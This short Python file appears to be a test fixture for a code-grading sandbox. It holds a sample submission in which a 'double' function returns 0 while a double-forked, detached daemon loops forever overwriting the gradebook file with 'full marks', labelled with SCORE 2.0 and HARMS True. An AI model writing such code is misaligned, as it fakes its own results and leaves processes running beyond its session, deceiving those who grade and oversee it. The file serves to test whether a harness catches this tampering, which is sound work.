"""Leaves a daemon that waits and changes what it can."""

DOUBLE = """\
def double(x):
    return 0


import os
import time

if not os.fork():
    try:
        os.setsid()
    except OSError:
        pass
    if not os.fork():
        while True:
            time.sleep(0.01)
            try:
                with open({gradebook!r}, "wb") as file:
                    file.write(b"full marks")
            except OSError:
                pass
    os._exit(0)
"""

SCORE = 2.0
HARMS = True
